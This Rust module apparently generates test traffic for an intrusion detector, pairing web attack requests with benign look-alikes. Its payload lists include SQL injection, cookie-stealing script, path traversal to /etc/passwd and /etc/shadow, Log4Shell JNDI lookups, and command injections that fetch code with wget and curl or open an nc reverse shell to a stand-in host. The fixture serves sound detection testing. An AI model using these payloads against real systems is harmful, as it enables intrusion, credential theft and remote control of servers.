//! Attacks on web applications: requests that mean to be read as something else.

use super::Attack;
use crate::http::{Request, response};
use crate::time::ms;
use crate::{Capture, Segmentation, TcpConversation, Time};

/// SQL in values of URIs, bodies and cookies.
pub(super) const SQL_INJECTION: Attack = Attack {
    name: "sql-injection",
    about: "203.0.113.80 sends 10.0.0.80 SQL in URIs, forms and cookies: UNION SELECT in plain, in mixed case, encoded twice, apart by comments, and in shuffled segments of three bytes that overlap; conditions that always hold; second statements; SLEEP, WAITFOR and BENCHMARK.",
    near_miss_about: "An article about SQL is read and commented on, gifts are searched for.",
    attack: |start| {
        let plan = Segmentation::every(3).overlap(1).shuffled(80);
        let split = Request::get("/item?id=1%20UNION%20SELECT%20user%2Cpassword%20FROM%20mysql.user");
        let talk = visit(start, "203.0.113.80:40080", &sql_injections());
        let talk = talk.segmentation(plan).to_server(&split.bytes());
        talk.segmentation(Segmentation::default())
            .to_client(&response("no item"))
            .close()
            .capture()
    },
    near_miss: |start| visit(start, "203.0.113.80:40080", &talk_of_sql()).close().capture(),
};

/// Script in values of URIs, bodies and cookies.
pub(super) const CROSS_SITE_SCRIPTING: Attack = Attack {
    name: "cross-site-scripting",
    about: "203.0.113.81 sends 10.0.0.80 script in URIs, a form and a cookie: elements, attributes, links, in plain and encoded twice.",
    near_miss_about: "An article about script elements is read and commented on, with its angle brackets escaped.",
    attack: |start| requests(start, "203.0.113.81:40081", &scripts()),
    near_miss: |start| requests(start, "203.0.113.81:40081", &talk_of_scripts()),
};

/// Paths that climb out of where they belong.
pub(super) const PATH_TRAVERSAL: Attack = Attack {
    name: "path-traversal",
    about: "203.0.113.82 asks 10.0.0.80 for /etc/passwd and win.ini by way of steps up, with slashes and backslashes, in plain, encoded and encoded twice, in URIs, a form and a cookie.",
    near_miss_about: "A page with a relative link one step up, and an article about /etc/passwd.",
    attack: |start| requests(start, "203.0.113.82:40082", &climbs()),
    near_miss: |start| requests(start, "203.0.113.82:40082", &single_steps()),
};

/// Commands of a shell in values.
pub(super) const COMMAND_INJECTION: Attack = Attack {
    name: "command-injection",
    about: "203.0.113.83 sends 10.0.0.80 commands behind semicolons, pipes, && and in $() and backticks, in URIs and forms, and a Shellshock header.",
    near_miss_about: "Lists with semicolons and pipes, prices with dollar signs, an article about the cat command.",
    attack: |start| requests(start, "203.0.113.83:40083", &commands()),
    near_miss: |start| requests(start, "203.0.113.83:40083", &lists()),
};

/// Lookups over JNDI wherever something is logged.
pub(super) const LOG4SHELL: Attack = Attack {
    name: "log4shell",
    about: "203.0.113.84 sends 10.0.0.80 JNDI lookups in the URI, the body, a cookie, the user agent and another header, in plain and in pieces.",
    near_miss_about: "An article about Log4Shell is read, and a template with ${user.name} is posted.",
    attack: |start| requests(start, "203.0.113.84:40084", &lookups()),
    near_miss: |start| requests(start, "203.0.113.84:40084", &templates()),
};

/// User agents of scanners.
pub(super) const SCANNER: Attack = Attack {
    name: "web-scanner",
    about: "203.0.113.85 sends 10.0.0.80 three requests as sqlmap and one each as Nikto, Nmap, Nuclei, gobuster and fourteen others.",
    near_miss_about: "A browser reads the blog's pages about sqlmap and Nikto.",
    attack: |start| requests(start, "203.0.113.85:40085", &scanners()),
    near_miss: |start| requests(start, "203.0.113.85:40085", &pages_about_scanners()),
};

const FORM: &str = "/form";

fn post(body: &str) -> Request {
    Request::post(FORM, body)
}

fn cookie(value: &str) -> Request {
    Request::get("/").header("Cookie", value)
}

fn sql_injections() -> Vec<Request> {
    let get = |value: &str| Request::get(&format!("/item?id={value}"));
    vec![
        get("1+UNION+SELECT+name,password+FROM+users"),
        get("1%20uNiOn%20%41lL%20sElEcT%201,2,3--%20-"),
        get("1%2520union%2520select%2520null"),
        get("-1/**/UNION/**/SELECT/**/1,2"),
        post("user=admin'+OR+'1'%3D'1&password=x"),
        post("id=1+union+all+select+1,version()"),
        cookie("session=x' OR 1=1-- -"),
        get("1%20or%201=1"),
        post("q=1')%3BDROP+TABLE+users"),
        get("1;WAITFOR%20DELAY%20'0:0:5'"),
        get("1%20AND%20SLEEP(5)"),
        cookie("id=1%20AND%20BENCHMARK(5000000,MD5(1))"),
        get("(select+table_name+from+information_schema.tables+limit+1)"),
        post("id=1;exec+master..xp_cmdshell"),
        get("admin'--"),
        get("x'+AND+'a'%3D'a"),
        cookie("id=1%20UNION%20SELECT%201"),
        post("id=(select+name+from+users)"),
        cookie("id=(select%20name%20from%20users)"),
        post("id=1+or+2%3D2"),
        cookie("id=1%20or%203=3"),
        cookie("user=admin'--"),
        post("id=1+or/**/x"),
        cookie("id=1%20and/**/x"),
        post("id=1+and+sleep(5)"),
        cookie("id=1%20and%20sleep(5)"),
        post("id=1%3Bwaitfor+delay+'0:0:5'"),
        cookie("id=1%3Bwaitfor%20delay%20'0:0:5'"),
        get("1+and+benchmark(5000000,1)"),
        post("id=1+and+benchmark(5000000,1)"),
        post("table=information_schema.tables"),
        cookie("table=information_schema.columns"),
        get("1;exec+xp_cmdshell"),
        cookie("id=exec%20xp_cmdshell"),
    ]
}

fn talk_of_sql() -> Vec<Request> {
    vec![
        Request::get("/blog/union-and-select-in-sql?title=The+union+of+a+select+few+from+1+or+2+clubs"),
        Request::get("/search?q=how+to+select+a+gift+from+our+shop&price=1+or+2%3Dcheap"),
        Request::get("/search?q=O'Brien+or+O'Neill&page=2"),
        Request::get("/docs/information_schema.html"),
        post("comment=I+sleep(well),+drop+by+the+%22union%22+library+--+they+select+books+from+all+over;+cheers"),
        cookie("theme=union; last=select%20from%20list; order=desc"),
        Request::get("/files/a/*/b?glob=*.sql"),
    ]
}

fn scripts() -> Vec<Request> {
    let get = |value: &str| Request::get(&format!("/search?q={value}"));
    vec![
        get("<script>alert(1)</script>"),
        get("%3CScRiPt%20src=//198.51.100.9/x.js%3E%3C/script%3E"),
        get("%253Cscript%253Ealert(1)%253C/script%253E"),
        get("%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
        get("%3Csvg/onload=alert(document.cookie)%3E"),
        Request::get("/go?to=javascript:alert(1)"),
        post("comment=%3Cscript%3Enew+Image().src='//198.51.100.9/'%2Bdocument.cookie%3C/script%3E"),
        post("comment=%3Cbody+onload%3Dalert(1)%3E"),
        cookie("name=%3Cscript%3Ealert(1)%3C/script%3E"),
        cookie("name=%3Cimg%20src=x%20onerror=alert(1)%3E"),
        post("to=javascript%3Aalert(1)"),
        cookie("to=javascript:alert(1)"),
    ]
}

fn talk_of_scripts() -> Vec<Request> {
    vec![
        Request::get("/docs/script-element?title=When+onload+runs,+and+why+a+%3C+b"),
        Request::get("/blog/javascript:-the-good-parts?q=javascript"),
        post("comment=Use+%26lt;script%26gt;+and+onerror%3D+with+care,+document.cookie+too"),
        cookie("lang=javascript; onboarding=done"),
    ]
}

fn climbs() -> Vec<Request> {
    vec![
        Request::get("/files/../../../../etc/passwd"),
        Request::get("/download?file=..%2f..%2f..%2fetc%2fpasswd"),
        Request::get("/download?file=%252e%252e%252f%252e%252e%252fetc%252fshadow"),
        Request::get("/download?file=..%5c..%5c..%5cwindows%5cwin.ini"),
        Request::get("/download?file=..\\..\\boot.ini"),
        Request::get("/page?include=file:///etc/passwd"),
        post("file=../../../../var/log/auth.log"),
        cookie("template=..%2F..%2F..%2Fetc%2Fhosts"),
    ]
}

fn single_steps() -> Vec<Request> {
    vec![
        Request::get("/blog/../style.css"),
        Request::get("/blog/the-file-etc-passwd?see=/docs/etc/passwd-format"),
        Request::get("/range?from=1..2&to=3..4"),
        post("comment=and+so+on+...+see+../notes.txt"),
    ]
}

fn commands() -> Vec<Request> {
    let get = |value: &str| Request::get(&format!("/ping?host={value}"));
    vec![
        get("127.0.0.1;cat%20/etc/hosts"),
        get("127.0.0.1%7Cid"),
        get("127.0.0.1%257C%2520uname%2520-a"),
        get("$(whoami)"),
        get("%60wget%20http://198.51.100.9/x%60"),
        get("a%26%26curl%20http://198.51.100.9/x"),
        post("host=127.0.0.1%3B/usr/bin/id"),
        post("host=127.0.0.1+%7C+nc+-e+/bin/sh+198.51.100.9+4444"),
        post("host=%24(cat+/etc/issue)"),
        Request::get("/cgi-bin/status").user_agent("() { :;}; /bin/bash -c id"),
        post("host=%60id%60"),
        post("host=a%26%26id"),
        get("/bin/sh%20-c%20x"),
        post("host=/bin/bash+-i"),
    ]
}

fn lists() -> Vec<Request> {
    vec![
        Request::get("/search?tags=cat;dog;type|bird|list&id=5&ls=1"),
        Request::get("/blog/the-cat-command;v=2?q=cat+/etc/hosts"),
        Request::get("/shop?price=$(10)&cmd=list"),
        post("comment=First+sleep;+then+type+your+name+|+address&id=7"),
    ]
}

fn lookups() -> Vec<Request> {
    let plain = "${jndi:ldap://198.51.100.9:1389/a}";
    vec![
        Request::get("/?x=$%7Bjndi:ldap://198.51.100.9/a%7D"),
        post("user=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.9%2Fa%7D"),
        cookie("id=${JNDI:dns://198.51.100.9/a}"),
        Request::get("/").user_agent(plain),
        Request::get("/").header("X-Api-Version", "${${lower:j}ndi:${lower:l}dap://198.51.100.9/a}"),
        Request::get("/?x=$%7B$%7B::-j%7D$%7B::-n%7D$%7B::-d%7D$%7B::-i%7D:ldap://198.51.100.9/a%7D"),
        post("x=%24%7B%24%7B::-j%7D%24%7B::-n%7D%24%7B::-d%7D%24%7B::-i%7D"),
        cookie("x=${${::-j}${::-n}${::-d}${::-i}}"),
    ]
}

fn templates() -> Vec<Request> {
    vec![
        Request::get("/blog/what-log4j-jndi:ldap-lookups-do"),
        post("template=Dear+%24%7Buser.name%7D,+today+is+%24%7Bdate%7D"),
        Request::get("/").header("X-Template", "${first}-${last}"),
    ]
}

fn scanners() -> Vec<Request> {
    let sqlmap = "sqlmap/1.8.4#stable (https://sqlmap.org)";
    vec![
        Request::get("/item?id=1").user_agent(sqlmap),
        Request::get("/item?id=2").user_agent(sqlmap),
        Request::get("/item?id=3").user_agent(sqlmap),
        Request::get("/admin/").user_agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"),
        Request::get("/robots.txt")
            .user_agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
        Request::get("/.env").user_agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        Request::get("/backup").user_agent("gobuster/3.6"),
        Request::get("/").user_agent("Nikto/2.1.6"),
        Request::get("/").user_agent("masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
        Request::get("/").user_agent("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"),
        Request::get("/")
            .user_agent("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)"),
        Request::get("/").user_agent("feroxbuster/2.10.1"),
        Request::get("/").user_agent("Fuzz Faster U Fool v2.1.0"),
        Request::get("/").user_agent("Wfuzz/3.1.0"),
        Request::get("/").user_agent("zgrab/0.x"),
        Request::get("/").user_agent("ZmEu"),
        Request::get("/").user_agent("commix/3.9 (https://commixproject.com)"),
        Request::get("/").user_agent("w3af.org"),
        Request::get("/").user_agent("Arachni/v1.5.1"),
        Request::get("/").user_agent("Mozilla/5.0 (Hydra)"),
        Request::get("/").user_agent("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4)"),
    ]
}

fn pages_about_scanners() -> Vec<Request> {
    vec![
        Request::get("/blog/sqlmap/1.8-is-out"),
        Request::get("/blog/nikto/2.5").header("Referer", "http://shop.example/blog/sqlmap/1.8-is-out"),
        Request::get("/search?q=Nmap+Scripting+Engine"),
    ]
}

/// One connection to the shop on which the requests are made and answered, one after the other.
fn visit(start: Time, client: &str, requests: &[Request]) -> TcpConversation {
    let mut talk = TcpConversation::new(client, "10.0.0.80:80")
        .start(start)
        .step(ms(2))
        .handshake();
    for request in requests {
        talk = talk
            .to_server(&request.bytes())
            .to_client(&response("no item"))
            .wait(ms(80));
    }
    talk
}

fn requests(start: Time, client: &str, list: &[Request]) -> Capture {
    visit(start, client, list).close().capture()
}
